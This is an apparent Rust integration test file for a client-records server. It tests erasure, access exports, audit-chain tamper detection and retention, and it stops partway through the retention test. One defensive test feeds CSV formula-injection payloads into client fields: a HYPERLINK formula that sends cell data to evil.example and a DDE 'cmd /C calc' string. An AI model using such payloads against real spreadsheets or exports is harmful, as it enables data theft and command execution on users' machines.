//! Erasure, the access export, the audit log and retention, on both backends: an erased
//! client leaves no byte of its name in the SQLite file (and its WAL) nor in any PostgreSQL
//! table; devices learn of it through the pull feed; the audit chain names a tampered row.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use tandem_protocol::{
    AuditEntry, AuditList, ChangeStatus, ClientExport, ConflictList, DuplicateMergeList,
    DuplicateMergeResponse, ErasureResponse, PulledPurge,
};
use tandem_server::audit::{AuditActor, ChainWalker, StoredAuditEntry};
use tandem_server::clock::Clock;
use tandem_server::retention::{RetentionPolicy, purge_clients_due, run_retention};
use tandem_server::store::{AuditFilter, ServerStore};
use uuid::Uuid;

use crate::harness::*;

/// Six years of 365 days, in milliseconds: past the default retention period.
const SIX_YEARS_MS: i64 = 6 * 365 * 24 * 3600 * 1000;

/// The name nobody else has: what must disappear.
const MARKER: &str = "Zyxwvutsrq";

/// The clients retention finds due at `now` (without the duplicates that go with them).
async fn due_clients(store: &dyn ServerStore, now: chrono::DateTime<chrono::Utc>) -> Vec<Uuid> {
    let cutoff = RetentionPolicy::default().cutoff(now);
    tandem_server::retention::clients_due(store, now, cutoff)
        .await
        .unwrap()
        .into_iter()
        .map(|(client, _)| client)
        .collect()
}

fn contains_ignoring_ascii_case(haystack: &[u8], needle: &str) -> bool {
    let needle = needle.to_ascii_lowercase();
    haystack
        .windows(needle.len())
        .any(|window| window.eq_ignore_ascii_case(needle.as_bytes()))
}

/// Every row of every table, as text, in which the marker appears (PostgreSQL), or the
/// database files that hold its bytes (SQLite: the file, its WAL and shared memory).
async fn traces_of(database: &TestDatabase, needle: &str) -> Vec<String> {
    match database {
        TestDatabase::Sqlite { path, .. } => {
            let mut found = Vec::new();
            for suffix in ["", "-wal", "-shm"] {
                let file = format!("{}{suffix}", path.display());
                if let Ok(bytes) = std::fs::read(&file)
                    && contains_ignoring_ascii_case(&bytes, needle)
                {
                    found.push(file);
                }
            }
            found
        }
        TestDatabase::Postgres { url } => {
            let (client, connection) = tokio_postgres::connect(url, tokio_postgres::NoTls)
                .await
                .unwrap();
            let connection = tokio::spawn(connection);
            let tables: Vec<String> = client
                .query(
                    "SELECT tablename FROM pg_tables WHERE schemaname = 'public'",
                    &[],
                )
                .await
                .unwrap()
                .iter()
                .map(|row| row.get(0))
                .collect();
            assert!(tables.len() >= 10, "every table is scanned: {tables:?}");
            let mut found = Vec::new();
            for table in tables {
                let rows = client
                    .query(&format!("SELECT t::text FROM {table} t"), &[])
                    .await
                    .unwrap();
                for row in rows {
                    let text: String = row.get(0);
                    if contains_ignoring_ascii_case(text.as_bytes(), needle) {
                        found.push(format!("{table}: {text}"));
                    }
                }
            }
            drop(client);
            connection.await.unwrap().unwrap();
            found
        }
    }
}

/// A client named with the marker, edited several times, with a contact, a resolved and an
/// open conflict: its values are in the state, the history, both conflicts and the
/// applied-change answers. Returns the client and its contact.
async fn seed_marked_client(server: &TestServer, a: &Device, b: &Device) -> (Uuid, Uuid) {
    let lead = server.login("lead_n").await;
    let (client, v) = create_client(
        server,
        a,
        &[
            ("given_name", json!(MARKER)),
            ("family_name", json!(format!("{MARKER}nen"))),
            ("notes", json!(format!("{MARKER} asked about housing"))),
        ],
    )
    .await;
    // A refused value: the answer names it, so the coach sees what to correct; the server's
    // stored answer (for a repeated push) must not keep it.
    let refused_change = change(
        a,
        "client",
        client,
        "email",
        json!(format!("{MARKER} at example")),
        0,
        NOW_MS,
    );
    let refused = server.push(a, vec![refused_change.clone()]).await;
    assert_eq!(refused[0].status, ChangeStatus::Rejected, "{refused:?}");
    assert!(
        refused[0].reason.as_deref().unwrap().contains(MARKER),
        "the first answer names the value: {refused:?}"
    );
    let repeated = server.push(a, vec![refused_change]).await;
    assert_eq!(
        (repeated[0].status, repeated[0].reason_code),
        (refused[0].status, refused[0].reason_code),
        "a repeat gets the first answer's status and code"
    );
    let mut given = v[0];
    for round in 1..=3 {
        let results = server
            .push(
                a,
                vec![change(
                    a,
                    "client",
                    client,
                    "given_name",
                    json!(format!("{MARKER}{round}")),
                    given,
                    NOW_MS + round,
                )],
            )
            .await;
        given = results[0].version;
    }
    // Two concurrent review edits: one conflict resolved by the lead, one left open.
    for (field, base) in [("given_name", given), ("family_name", v[1])] {
        server
            .push(
                a,
                vec![change(
                    a,
                    "client",
                    client,
                    field,
                    json!(format!("{MARKER}-a")),
                    base,
                    NOW_MS + 10,
                )],
            )
            .await;
        let results = server
            .push(
                b,
                vec![change(
                    b,
                    "client",
                    client,
                    field,
                    json!(format!("{MARKER}-b")),
                    base,
                    NOW_MS + 11,
                )],
            )
            .await;
        assert_eq!(results[0].status, ChangeStatus::Conflict, "{results:?}");
    }
    let open: ConflictList = server
        .request(Method::GET, "/v1/conflicts", Some(&lead.token), None)
        .await
        .json();
    assert_eq!(open.conflicts.len(), 2);
    let resolved = server
        .request(
            Method::POST,
            &format!("/v1/conflicts/{}/resolve", open.conflicts[0].id),
            Some(&lead.token),
            Some(json!({"value": format!("{MARKER}-resolved")})),
        )
        .await;
    assert_eq!(resolved.status, StatusCode::OK, "{}", resolved.body);
    let contact = Uuid::now_v7();
    let results = server
        .push(
            a,
            vec![
                change(a, "contact", contact, "client_id", json!(client), 0, NOW_MS),
                change(
                    a,
                    "contact",
                    contact,
                    "summary",
                    json!(format!("talked with {MARKER} about work")),
                    0,
                    NOW_MS,
                ),
                change(
                    a,
                    "contact",
                    contact,
                    "occurred_at",
                    json!("2026-01-14T10:00:00+02:00"),
                    0,
                    NOW_MS,
                ),
            ],
        )
        .await;
    assert!(
        results.iter().all(|r| r.status == ChangeStatus::Applied),
        "{results:?}"
    );
    (client, contact)
}

both_backends!(an_erased_client_leaves_no_trace_of_its_values_in_the_database);
async fn an_erased_client_leaves_no_trace_of_its_values_in_the_database(backend: Backend) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let b = server.login("coach_b").await;
    let lead = server.login("lead_n").await;
    // Made first, so that the erased records hold the largest seqs: the purges must still
    // come after every seq a device has pulled.
    let (other, _) = create_client(&server, &a, &[("given_name", json!("Amina"))]).await;
    let (client, contact) = seed_marked_client(&server, &a, &b).await;
    let before = server.pull(&b, 0, 1000).await;
    assert!(
        !traces_of(&server.database, MARKER).await.is_empty(),
        "the scan finds the name before the erasure"
    );

    let reply = server
        .request(
            Method::POST,
            &format!("/v1/clients/{client}/erase"),
            Some(&lead.token),
            None,
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let erased: ErasureResponse = reply.json();
    let mut ids: Vec<Uuid> = erased.records.iter().map(|p| p.record_id).collect();
    ids.sort_unstable();
    let mut expected = vec![client, contact];
    expected.sort_unstable();
    assert_eq!(ids, expected, "the client and its contact");

    assert_eq!(
        traces_of(&server.database, MARKER).await,
        Vec::<String>::new()
    );
    if let TestDatabase::Sqlite { path, .. } = server.database.as_ref() {
        // And after a VACUUM rewrote the file, for good measure.
        rusqlite::Connection::open(path)
            .unwrap()
            .execute_batch("VACUUM")
            .unwrap();
        assert_eq!(
            traces_of(&server.database, MARKER).await,
            Vec::<String>::new()
        );
    }

    // A device that pulled everything before learns of it after its cursor; a new device
    // learns of it from 0; neither gets a value of the erased records.
    for after in [before.next, 0] {
        let page = server.pull(&b, after, 1000).await;
        assert!(page.purges.iter().all(|p| p.seq > before.next), "{page:?}");
        let purged: Vec<Uuid> = page.purges.iter().map(|p| p.record_id).collect();
        assert!(
            purged.contains(&client) && purged.contains(&contact),
            "{page:?}"
        );
        assert!(
            page.changes
                .iter()
                .all(|c| c.record_id != client && c.record_id != contact)
        );
        assert_eq!(
            page.next,
            page.purges.iter().map(|p| p.seq).max().unwrap(),
            "the cursor moves past the purges"
        );
    }
    // A pull that stops before the purges knows it ends at them (a device's progress).
    let end = server.pull(&b, before.next, 1000).await.next;
    let first = server.pull(&b, before.next, 1).await;
    assert!(first.has_more, "{first:?}");
    assert_eq!(first.head, Some(end));
    // The other client is untouched, and later writes get seqs after the purges.
    let results = server
        .push(
            &a,
            vec![change(
                &a,
                "client",
                other,
                "nickname",
                json!("Ami"),
                0,
                NOW_MS,
            )],
        )
        .await;
    let last_purge = erased.records.iter().map(|p| p.seq).max().unwrap();
    assert!(results[0].version > last_purge, "{results:?}");

    // Edits made offline before the erasure are refused, and so is a new contact for it,
    // all of its fields, whichever comes first in the batch.
    let late_contact = Uuid::now_v7();
    let late = server
        .push(
            &b,
            vec![
                change(
                    &b,
                    "client",
                    client,
                    "nickname",
                    json!("Latevisitqx"),
                    0,
                    NOW_MS,
                ),
                change(
                    &b,
                    "contact",
                    late_contact,
                    "summary",
                    json!("Latevisitqx came by"),
                    0,
                    NOW_MS,
                ),
                change(
                    &b,
                    "contact",
                    late_contact,
                    "client_id",
                    json!(client),
                    0,
                    NOW_MS,
                ),
            ],
        )
        .await;
    for result in &late {
        assert_eq!(result.status, ChangeStatus::Rejected, "{result:?}");
        assert!(
            result.reason.as_deref().unwrap().contains("erased"),
            "{result:?}"
        );
        assert_eq!(
            result.reason_code,
            Some(tandem_protocol::RejectCode::RecordErased)
        );
    }
    // A lone change to the erased client, linking nothing, is refused just the same.
    let lone = server
        .push(
            &b,
            vec![change(
                &b,
                "client",
                client,
                "nickname",
                json!("Lonevisitqx"),
                0,
                NOW_MS,
            )],
        )
        .await;
    assert_eq!(lone[0].status, ChangeStatus::Rejected, "{lone:?}");
    assert_eq!(
        lone[0].reason_code,
        Some(tandem_protocol::RejectCode::RecordErased)
    );
    assert_eq!(
        traces_of(&server.database, "Latevisitqx").await,
        Vec::<String>::new()
    );
    assert_eq!(
        traces_of(&server.database, "Lonevisitqx").await,
        Vec::<String>::new()
    );

    // What remains is the audit entry: who, when, which records; no value.
    let audit: AuditList = server
        .request(
            Method::GET,
            &format!("/v1/audit?record_id={client}"),
            Some(&lead.token),
            None,
        )
        .await
        .json();
    let erase = audit
        .entries
        .iter()
        .find(|e| e.action == "erase")
        .expect("an erase entry");
    assert_eq!(erase.record_id, Some(client));
    assert!(erase.actor.contains(&lead.user_id.to_string()));
    assert!(erase.detail.contains(&contact.to_string()), "{erase:?}");
    // The erasure's entries continue the audit chain.
    audit_chain(&server).await;
}

both_backends!(the_operator_erases_a_client_through_the_same_path);
async fn the_operator_erases_a_client_through_the_same_path(backend: Backend) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let (client, _) = create_client(&server, &a, &[("given_name", json!(MARKER))]).await;
    let records = server
        .store
        .erase_clients(tandem_server::store::ErasureRequest {
            clients: vec![client],
            team_id: None,
            actor: AuditActor::Operator,
            reason: tandem_server::store::ErasureReason::Request,
            now: server.clock.now(),
        })
        .await
        .unwrap();
    assert_eq!(
        records.iter().map(|p| p.record_id).collect::<Vec<_>>(),
        vec![client]
    );
    assert_eq!(
        traces_of(&server.database, MARKER).await,
        Vec::<String>::new()
    );
    let again = server
        .store
        .erase_clients(tandem_server::store::ErasureRequest {
            clients: vec![client],
            team_id: None,
            actor: AuditActor::Operator,
            reason: tandem_server::store::ErasureReason::Request,
            now: server.clock.now(),
        })
        .await;
    assert!(
        matches!(again, Err(tandem_server::ServerError::UnknownRecord(id)) if id == client),
        "{again:?}"
    );
}

/// Pushes a contact of `client` from `device` with one more field, `summary` (the text) or
/// `occurred_at` (RFC 3339), for instance; returns its id.
async fn push_contact(
    server: &TestServer,
    device: &Device,
    client: Uuid,
    field: (&str, &str),
) -> Uuid {
    push_contact_with_version(server, device, client, field)
        .await
        .0
}

/// [`push_contact`], also returning the version of the field written besides the link.
async fn push_contact_with_version(
    server: &TestServer,
    device: &Device,
    client: Uuid,
    (field, value): (&str, &str),
) -> (Uuid, u64) {
    let id = Uuid::now_v7();
    let results = server
        .push(
            device,
            vec![
                change(device, "contact", id, "client_id", json!(client), 0, NOW_MS),
                change(device, "contact", id, field, json!(value), 0, NOW_MS),
            ],
        )
        .await;
    assert!(
        results.iter().all(|r| r.status == ChangeStatus::Applied),
        "{results:?}"
    );
    (id, results[1].version)
}

/// Pushes a contact of `client` that occurred `at`; returns its id.
async fn push_contact_at(server: &TestServer, device: &Device, client: Uuid, at: &str) -> Uuid {
    push_contact(server, device, client, ("occurred_at", at)).await
}

/// The entries of `action` in the audit log `device`'s user may read (`GET /v1/audit`).
async fn audit_entries_of(server: &TestServer, device: &Device, action: &str) -> Vec<AuditEntry> {
    let audit: AuditList = server.get_ok("/v1/audit", device).await;
    audit
        .entries
        .into_iter()
        .filter(|entry| entry.action == action)
        .collect()
}

/// `lead`'s access export of `client` (`GET /v1/clients/{id}/export`), and its body as text.
async fn export_of(server: &TestServer, lead: &Device, client: Uuid) -> (ClientExport, String) {
    let reply = server
        .request(
            Method::GET,
            &format!("/v1/clients/{client}/export"),
            Some(&lead.token),
            None,
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let text = reply.body.to_string();
    (reply.json(), text)
}

both_backends!(a_team_leads_export_and_erasure_stay_inside_their_team);
async fn a_team_leads_export_and_erasure_stay_inside_their_team(backend: Backend) {
    let server = start(backend).await;
    let coach = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    let coach_s = server.login("coach_s").await;
    let (client, _) = create_client(&server, &coach, &[("given_name", json!("Amina"))]).await;
    let own = push_contact(&server, &coach, client, ("summary", "north's meeting")).await;
    // A contact of team south that names north's client (only a broken or hostile laptop
    // writes one: south's laptops never see north's clients).
    let foreign = push_contact(&server, &coach_s, client, ("summary", "Southsecretqx")).await;

    // The export gives north's records only: nothing of south's contact, not even its id.
    let (export, text) = export_of(&server, &lead, client).await;
    let contacts: Vec<&Value> = export.contacts.iter().map(|c| &c["record_id"]).collect();
    assert_eq!(contacts, [&json!(own.to_string())]);
    assert!(!text.contains("Southsecretqx"), "{text}");
    assert!(!text.contains(&foreign.to_string()), "{text}");

    // The erasure would have to remove a record of south: refused, and nothing is erased.
    let audit_before = server.audit_len().await;
    let reply = server
        .request(
            Method::POST,
            &format!("/v1/clients/{client}/erase"),
            Some(&lead.token),
            None,
        )
        .await;
    assert_eq!(reply.status, StatusCode::CONFLICT, "{}", reply.body);
    assert_eq!(reply.error_code(), "linked_from_other_team");
    let message = reply.body["message"].as_str().unwrap();
    assert!(
        message.contains("tandem-server admin client erase"),
        "{message}"
    );
    assert!(!message.contains(&foreign.to_string()), "{message}");
    assert_eq!(server.audit_len().await, audit_before);
    let kept: Vec<Uuid> = server
        .pull_all(&coach_s)
        .await
        .iter()
        .map(|c| c.record_id)
        .collect();
    assert!(kept.contains(&foreign));
    let kept: Vec<Uuid> = server
        .pull_all(&coach)
        .await
        .iter()
        .map(|c| c.record_id)
        .collect();
    assert!(kept.contains(&client) && kept.contains(&own));

    // The operator, whose erasure is not a team's, erases everything that names the client.
    let mut erased: Vec<Uuid> = server
        .store
        .erase_clients(tandem_server::store::ErasureRequest {
            clients: vec![client],
            team_id: None,
            actor: AuditActor::Operator,
            reason: tandem_server::store::ErasureReason::Request,
            now: server.clock.now(),
        })
        .await
        .unwrap()
        .iter()
        .map(|p| p.record_id)
        .collect();
    erased.sort_unstable();
    let mut expected = vec![client, own, foreign];
    expected.sort_unstable();
    assert_eq!(erased, expected);
    assert_eq!(
        traces_of(&server.database, "Southsecretqx").await,
        Vec::<String>::new()
    );
}

both_backends!(an_erasure_across_teams_gives_each_team_an_entry_naming_only_its_records);
async fn an_erasure_across_teams_gives_each_team_an_entry_naming_only_its_records(
    backend: Backend,
) {
    let server = start(backend).await;
    let coach = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    let coach_s = server.login("coach_s").await;
    let lead_s = server.login("lead_s").await;
    let (client, _) = create_client(&server, &coach, &[("given_name", json!("Amina"))]).await;
    let own = push_contact(&server, &coach, client, ("summary", "north's meeting")).await;
    let foreign = push_contact(&server, &coach_s, client, ("summary", "south's meeting")).await;
    // Another client of north, erased in the same request: its records are its own entry's.
    let (other, _) = create_client(&server, &coach, &[("given_name", json!("Olga"))]).await;

    server
        .store
        .erase_clients(tandem_server::store::ErasureRequest {
            clients: vec![client, other],
            team_id: None,
            actor: AuditActor::Operator,
            reason: tandem_server::store::ErasureReason::Request,
            now: server.clock.now(),
        })
        .await
        .unwrap();

    // North: one entry per client asked, each naming that client's north records only.
    let north = audit_entries_of(&server, &lead, "erase").await;
    assert_eq!(north.len(), 2, "{north:#?}");
    let of_client = north.iter().find(|e| e.record_id == Some(client)).unwrap();
    assert_eq!(of_client.actor, "operator");
    assert!(of_client.detail.starts_with("records=2: "), "{of_client:?}");
    for id in [client, own] {
        assert!(of_client.detail.contains(&id.to_string()), "{of_client:?}");
    }
    for id in [foreign, other] {
        assert!(!of_client.detail.contains(&id.to_string()), "{of_client:?}");
    }
    let of_other = north.iter().find(|e| e.record_id == Some(other)).unwrap();
    assert_eq!(of_other.detail, format!("records=1: client {other}"));
    // South: an entry of its own naming its contact, and no record of north.
    let south = audit_entries_of(&server, &lead_s, "erase").await;
    assert_eq!(south.len(), 1, "{south:#?}");
    let entry = &south[0];
    assert_eq!(entry.team_id, Some(server.team("south")));
    assert_eq!(entry.actor, "operator");
    assert!(entry.detail.contains(&foreign.to_string()), "{entry:?}");
    for id in [client, own, other] {
        assert!(!entry.detail.contains(&id.to_string()), "{entry:?}");
        assert_ne!(entry.record_id, Some(id), "{entry:?}");
    }
    audit_chain(&server).await;
}

both_backends!(a_value_a_spreadsheet_would_run_as_a_formula_is_exported_to_csv_as_text);
async fn a_value_a_spreadsheet_would_run_as_a_formula_is_exported_to_csv_as_text(backend: Backend) {
    let server = start(backend).await;
    let coach = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"Amina")"#;
    let (client, _) = create_client(
        &server,
        &coach,
        &[
            ("given_name", json!(formula)),
            ("nickname", json!("@SUM(1+1)*cmd|' /C calc'!A0")),
            ("municipality", json!("-2+3")),
            ("phone", json!("+358401234567")),
        ],
    )
    .await;
    let text = server
        .http
        .get(format!("{}/v1/clients/{client}/export", server.base))
        .bearer_auth(&lead.token)
        .header("accept", "text/csv")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let quoted = format!("\"'{}\"", formula.replace('"', "\"\""));
    assert!(
        text.contains(&format!("current,client,{client},given_name,{quoted},")),
        "{text}"
    );
    assert!(
        text.contains(&format!("history,client,{client},given_name,{quoted},")),
        "{text}"
    );
    assert!(
        text.contains(",nickname,'@SUM(1+1)*cmd|' /C calc'!A0,"),
        "{text}"
    );
    assert!(text.contains(",municipality,'-2+3,"), "{text}");
    // A phone number is only a sign and digits, which no spreadsheet runs: it stays as it is.
    assert!(
        text.contains(&format!("current,client,{client},phone,+358401234567,")),
        "{text}"
    );
    // No other cell of the file begins with a formula's first character.
    for line in text.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            let signed_digits = cell.strip_prefix(['+', '-']).is_some_and(|digits| {
                !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
            });
            assert!(
                signed_digits || !cell.starts_with(['=', '+', '-', '@']),
                "{cell} in {line}"
            );
        }
    }
}

both_backends!(the_access_export_gives_every_field_contact_and_history_as_json_and_csv);
async fn the_access_export_gives_every_field_contact_and_history_as_json_and_csv(backend: Backend) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let b = server.login("coach_b").await;
    let lead = server.login("lead_n").await;
    let (client, contact) = seed_marked_client(&server, &a, &b).await;
    let path = format!("/v1/clients/{client}/export");

    let reply = server
        .request(Method::GET, &path, Some(&lead.token), None)
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let export: ClientExport = reply.json();
    assert_eq!(export.client_id, client);
    assert_eq!(export.client["family_name"], json!(format!("{MARKER}-b")));
    assert_eq!(export.client["record_id"], json!(client.to_string()));
    assert_eq!(export.contacts.len(), 1);
    assert_eq!(export.contacts[0]["record_id"], json!(contact.to_string()));
    assert_eq!(export.contacts[0]["client_id"], json!(client.to_string()));
    let given: Vec<&Value> = export
        .history
        .iter()
        .filter(|v| v.field == "given_name")
        .map(|v| &v.value)
        .collect();
    for expected in [
        json!(MARKER),
        json!(format!("{MARKER}1")),
        json!(format!("{MARKER}3")),
        json!(format!("{MARKER}-b")),
        json!(format!("{MARKER}-resolved")),
    ] {
        assert!(given.contains(&&expected), "{expected} in {given:?}");
    }
    assert!(
        export
            .history
            .iter()
            .any(|v| v.record_id == contact && v.field == "summary")
    );
    assert!(export.history.windows(2).all(|w| w[0].seq < w[1].seq));

    let csv = server
        .http
        .get(format!("{}{path}", server.base))
        .bearer_auth(&lead.token)
        .header("accept", "text/csv")
        .send()
        .await
        .unwrap();
    assert_eq!(csv.status(), StatusCode::OK);
    assert!(
        csv.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = csv.text().await.unwrap();
    let mut lines = text.lines();
    assert_eq!(
        lines.next().unwrap(),
        "section,entity,record_id,field,value,seq,effective,author_id,recorded_at"
    );
    assert!(
        text.contains(&format!(
            "current,client,{client},given_name,{MARKER}-resolved,"
        )),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "current,contact,{contact},summary,talked with {MARKER} about work,"
        )),
        "{text}"
    );
    assert_eq!(
        text.lines().count(),
        1 + export.client.len() - 1 + export.contacts[0].len() - 1 + export.history.len()
    );

    // Both exports are in the audit log, with counts and no value.
    let exports = audit_entries_of(&server, &lead, "export").await;
    assert_eq!(exports.len(), 2, "{exports:?}");
    for entry in exports {
        assert_eq!(entry.record_id, Some(client));
        assert!(!entry.detail.contains(MARKER));
    }
}

both_backends!(the_access_export_of_a_merged_person_gives_each_of_its_contacts_once);
async fn the_access_export_of_a_merged_person_gives_each_of_its_contacts_once(backend: Backend) {
    let server = start(backend).await;
    let coach = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    let coach_s = server.login("coach_s").await;
    let (person, _) = create_client(&server, &coach, &[("given_name", json!("Aino"))]).await;
    let (first, _) = create_client(&server, &coach, &[("given_name", json!("Aino K"))]).await;
    let (second, _) = create_client(&server, &coach, &[("given_name", json!("Aino K."))]).await;
    let (other, _) = create_client(&server, &coach, &[("given_name", json!("Bea"))]).await;
    let mut visits = Vec::new();
    for (client, summary) in [
        (person, "visit one"),
        (person, "visit two"),
        (first, "the first's visit"),
        (second, "the second's visit"),
    ] {
        visits.push(push_contact(&server, &coach, client, ("summary", summary)).await);
    }
    // A chain of merges: the second into the first, the first into the person.
    for (survivor, duplicate) in [(first, second), (person, first)] {
        let reply = merge(&server, &lead, survivor, duplicate).await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    }
    // After the merges, a laptop that had not pulled them files a contact under the second;
    // the other client's contact and another team's contact naming the first are not the
    // person's team's.
    visits.push(push_contact(&server, &coach, second, ("summary", "filed late")).await);
    let others = push_contact(&server, &coach, other, ("summary", "Bea's visit")).await;
    let foreign = push_contact(&server, &coach_s, first, ("summary", "Southsecretqx")).await;

    let (export, text) = export_of(&server, &lead, person).await;
    let ids = |records: &[serde_json::Map<String, Value>]| -> Vec<Uuid> {
        records
            .iter()
            .map(|r| Uuid::parse_str(r["record_id"].as_str().unwrap()).unwrap())
            .collect()
    };
    let mut merged = vec![first, second];
    merged.sort_unstable();
    assert_eq!(ids(&export.merged_clients), merged, "in id order");
    visits.sort_unstable();
    assert_eq!(
        ids(&export.contacts),
        visits,
        "each contact once, in id order"
    );
    for contact in &export.contacts {
        assert!(contact["summary"].is_string(), "{contact:?}");
    }
    for absent in [others, foreign] {
        assert!(!text.contains(&absent.to_string()), "{absent}: {text}");
    }
    assert!(!text.contains("Southsecretqx"), "{text}");
    // The history holds every record's writes, each once, in seq order.
    for record in visits.iter().chain(&merged).chain([&person]) {
        assert!(
            export.history.iter().any(|v| v.record_id == *record),
            "{record} in the history"
        );
    }
    assert!(export.history.windows(2).all(|w| w[0].seq < w[1].seq));
}

/// Runs `tandem-server admin audit verify` on the test's database.
async fn verify_with_the_binary(database: &TestDatabase) -> (bool, String) {
    admin_with_the_binary(database, &["audit", "verify"]).await
}

/// Runs `tandem-server admin ARGS` on the test's database (at the real clock); whether it
/// succeeded, and what it printed.
async fn admin_with_the_binary(database: &TestDatabase, args: &[&str]) -> (bool, String) {
    let url = match database {
        TestDatabase::Sqlite { path, .. } => format!("sqlite:{}", path.display()),
        TestDatabase::Postgres { url } => url.clone(),
    };
    let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_tandem-server"))
        .args(["--database-url", &url, "admin"])
        .args(args)
        .output()
        .await
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    (output.status.success(), text)
}

async fn tamper(database: &TestDatabase, sql: &str) {
    match database {
        TestDatabase::Sqlite { path, .. } => rusqlite::Connection::open(path)
            .unwrap()
            .execute_batch(sql)
            .unwrap(),
        TestDatabase::Postgres { url } => {
            let (client, connection) = tokio_postgres::connect(url, tokio_postgres::NoTls)
                .await
                .unwrap();
            let connection = tokio::spawn(connection);
            client.batch_execute(sql).await.unwrap();
            drop(client);
            connection.await.unwrap().unwrap();
        }
    }
}

/// A connection of the test's own to a PostgreSQL test database.
async fn pg_connection(database: &TestDatabase) -> tokio_postgres::Client {
    let TestDatabase::Postgres { url } = database else {
        unreachable!("a PostgreSQL test")
    };
    let (client, connection) = tokio_postgres::connect(url, tokio_postgres::NoTls)
        .await
        .unwrap();
    tokio::spawn(connection);
    client
}

/// PostgreSQL only: SQLite's read transaction is one snapshot by its nature.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_on_postgres_reads_one_snapshot_while_others_write() {
    let server = start(Backend::Postgres).await;
    let coach = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    let (client, _) = create_client(&server, &coach, &[("given_name", json!("Amina"))]).await;

    // A writer holds the history table, so the export waits for it after its first reads.
    let mut writer = pg_connection(&server.database).await;
    let write = writer.transaction().await.unwrap();
    write
        .batch_execute("LOCK TABLE change_log IN ACCESS EXCLUSIVE MODE")
        .await
        .unwrap();
    let export = {
        let request = server
            .http
            .get(format!("{}/v1/clients/{client}/export", server.base))
            .bearer_auth(&lead.token);
        tokio::spawn(async move { request.send().await.unwrap().text().await.unwrap() })
    };
    // Until the export's reads wait on the writer's lock (a state, not a time).
    let watcher = pg_connection(&server.database).await;
    loop {
        let waiting: i64 = watcher
            .query_one(
                "SELECT COUNT(*) FROM pg_stat_activity
                 WHERE datname = current_database() AND wait_event_type = 'Lock'",
                &[],
            )
            .await
            .unwrap()
            .get(0);
        if waiting > 0 {
            break;
        }
        assert!(
            !export.is_finished(),
            "the export never waited for the writer"
        );
        tokio::task::yield_now().await;
    }
    // The writer adds a value to the client's history and commits: an export that read it
    // now would give a history its other parts (read before) do not match.
    write
        .execute(
            "INSERT INTO change_log (seq, team_id, entity, record_id, field, value, hlc,
                 author_id, change_id, device_id, effective, recorded_ms)
             SELECT MAX(seq) + 1, $1, 'client', $2, 'nickname', '\"Snapshotqx\"',
                 '0001768471200000-00000-test', $3, $4, NULL, TRUE, $5
             FROM change_log",
            &[
                &server.team("north"),
                &client,
                &coach.user_id,
                &Uuid::now_v7(),
                &NOW_MS,
            ],
        )
        .await
        .unwrap();
    write.commit().await.unwrap();
    let text = export.await.unwrap();
    let export: ClientExport = serde_json::from_str(&text).unwrap();
    assert_eq!(export.client["given_name"], json!("Amina"));
    assert!(
        !text.contains("Snapshotqx"),
        "the export read a write committed after it began: {text}"
    );
    // The next export sees it.
    let again = server
        .request(
            Method::GET,
            &format!("/v1/clients/{client}/export"),
            Some(&lead.token),
            None,
        )
        .await;
    assert!(again.body.to_string().contains("Snapshotqx"));
}

both_backends!(audit_verify_names_the_first_changed_or_removed_entry);
async fn audit_verify_names_the_first_changed_or_removed_entry(backend: Backend) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    let (client, _) = create_client(&server, &a, &[("given_name", json!("Amina"))]).await;
    for _ in 0..4 {
        let reply = server
            .request(
                Method::GET,
                &format!("/v1/clients/{client}/export"),
                Some(&lead.token),
                None,
            )
            .await;
        assert_eq!(reply.status, StatusCode::OK);
    }
    let entries = audit_chain(&server).await;
    assert!(entries.len() >= 4, "{entries:?}");
    let (ok, text) = verify_with_the_binary(&server.database).await;
    assert!(ok, "{text}");
    assert!(
        text.contains(&format!("{} entries", entries.len())),
        "{text}"
    );

    let victim = entries[1].seq;
    tamper(
        &server.database,
        &format!("UPDATE audit_log SET detail = 'contacts=0' WHERE seq = {victim}"),
    )
    .await;
    let (ok, text) = verify_with_the_binary(&server.database).await;
    assert!(!ok, "a changed entry fails: {text}");
    assert!(text.contains(&format!("audit entry {victim}:")), "{text}");

    tamper(
        &server.database,
        &format!("DELETE FROM audit_log WHERE seq = {victim}"),
    )
    .await;
    let (ok, text) = verify_with_the_binary(&server.database).await;
    assert!(!ok, "a removed entry fails: {text}");
    assert!(
        text.contains(&format!("audit entry {}:", victim + 1)),
        "{text}"
    );
}

both_backends!(retention_purges_clients_whose_last_contact_is_older_than_the_period);
async fn retention_purges_clients_whose_last_contact_is_older_than_the_period(backend: Backend) {
    let server = start(backend).await;
    let a = server.login("coach_a").await;
    let lead = server.login("lead_n").await;
    // Made now (2026-01-15): one without contacts, one whose only contact was in 2019.
    let (quiet, _) = create_client(&server, &a, &[("given_name", json!("Quiet"))]).await;
    let (old, _) = create_client(&server, &a, &[("given_name", json!("Old"))]).await;
    let (recent, _) = create_client(&server, &a, &[("given_name", json!("Recent"))]).await;
    push_contact_at(&server, &a, old, "2019-05-02T10:00:00+03:00").await;
    // Six years later the recent client is met again.
    server.clock.advance_ms(SIX_YEARS_MS);
    push_contact_at(&server, &a, recent, "2031-12-20T10:00:00+02:00").await;
